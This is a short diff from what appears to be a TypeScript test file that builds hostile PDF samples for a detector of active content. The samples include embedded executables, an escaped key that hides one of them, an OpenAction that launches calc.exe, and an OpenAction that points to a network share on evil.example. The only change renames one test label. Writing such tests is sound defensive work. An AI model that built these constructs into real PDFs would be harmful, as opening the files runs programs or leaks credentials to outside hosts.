@@ -135,7 +135,7 @@ const ACTIVE: Record<string, () => Buffer | Promise<Buffer>> = {
     plainPdf({ more: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
   'a file inside, its key escaped': () =>
     plainPdf({ more: ['<< /UF (a.exe) /#45#46 << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
-  'a file inside, named by nobody': () => plainPdf({ more: [stream('/Type /EmbeddedFile', `MZ${CANARY}`)] }),
+  'a file inside, that no page names': () => plainPdf({ more: [stream('/Type /EmbeddedFile', `MZ${CANARY}`)] }),
   'an address of this computer': () => plainPdf({ catalog: `/OpenAction ${address('file:///C:/Windows/calc.exe')}` }),
   'an address of the network': () => plainPdf({ catalog: `/OpenAction ${address('\\\\\\\\evil.example\\\\share')}` }),
   'a script as an address': () =>
